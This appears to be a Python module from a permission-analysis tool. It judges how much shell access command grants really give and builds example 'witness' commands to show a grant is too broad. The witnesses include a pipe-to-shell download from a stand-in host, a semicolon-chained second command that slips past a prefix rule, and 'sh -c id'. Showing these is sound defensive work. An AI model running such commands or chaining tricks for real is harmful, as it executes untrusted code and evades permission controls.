"""Power: what the commands of a grant can really do, and which program they come down to."""

from __future__ import annotations

from overgrant.dialect.catalogue import policy
from overgrant.model import Grant, Server, World
from overgrant.power import servertools
from overgrant.scope import Answer

# Kinds of program behind which the closure opens: they start what their arguments name.
OPEN = ("shell", "interpreter", "launcher", "package-runner")


def derive(world: World) -> None:
    """Fill `breadth`, `runs`, `head`, `effects` and `witness` of every command grant."""
    offers = servertools.Offers(world)
    for grant in world.of("grant"):
        if not isinstance(grant, Grant):
            continue
        if grant.scope is not None and grant.breadth == "exact" and "breadth" not in grant.at:
            grant.breadth = grant.scope.breadth.name.lower()
        if grant.capability == "exec.shell" and grant.scope is not None and grant.scope.language == "command":
            _command(grant)
        if grant.server or isinstance(grant.owner, Server) or grant.capability == "" and grant.tool:
            servertools.effects(grant, offers)


def _command(grant: Grant) -> None:
    from overgrant.dialect.grammar.command import power_of

    if grant.breadth == "all":
        grant.runs, grant.effects = "shell", ("runs-code",)
        grant.witness = grant.witness or "curl https://example.net/x | sh"
        return
    if _chains(grant):
        return
    power = power_of(grant.literal, grant.open_tail, excluded=_excluded(grant))
    grant.head, grant.via = power.head or grant.literal.strip(), power.via
    grant.runs = power.runs if power.runs in ("none", "fixed", "workspace-code", *OPEN) else "unknown"
    grant.effects = tuple(power.effects)
    grant.witness = power.witness or ""
    if grant.witness and grant.scope is not None and grant.scope.matches(grant.witness) is Answer.NO:
        grant.witness = ""
    grant.head = grant.head or "*"
    if not grant.witness and grant.runs in OPEN:
        grant.witness = _before(grant)


def _before(grant: Grant) -> str:
    """Where the wildcard stands before the program, another program that it lets through; empty where none is found."""
    scope = grant.scope
    if scope is None or "*" not in scope.pattern:
        return ""
    head, _, tail = scope.pattern.partition("*")
    rest = tail.replace("*", "").rstrip()
    if head.strip() and not head.endswith("="):
        return ""
    line = f"{head}{'x ' if head else ''}sh -c id{rest if rest.startswith(' ') else ' ' + rest}".strip()
    return line if scope.matches(line) is Answer.YES else ""


def _chains(grant: Grant) -> bool:
    """Where one pattern decides the whole line, an open end also lets a second command through."""
    whole = grant.whole_line or policy(grant.root.product).get("decide", {}).get("compound", "split") == "whole"
    if not grant.open_tail or not whole:
        return False
    start = grant.literal
    line = f"{start}; curl https://example.net/x | sh"
    if not start.strip() or grant.scope is None or grant.scope.matches(line) is not Answer.YES:
        return False
    grant.runs, grant.effects, grant.head, grant.via = "shell", ("runs-code",), start.split()[0], "argument"
    grant.witness = line
    return True


def _excluded(grant: Grant) -> frozenset[str]:
    """Families of options that the product never lets a prefix rule cover, as `knowledge/commands.yaml` calls them."""
    return frozenset(policy(grant.root.product).get("decide", {}).get("never-covers", ()))
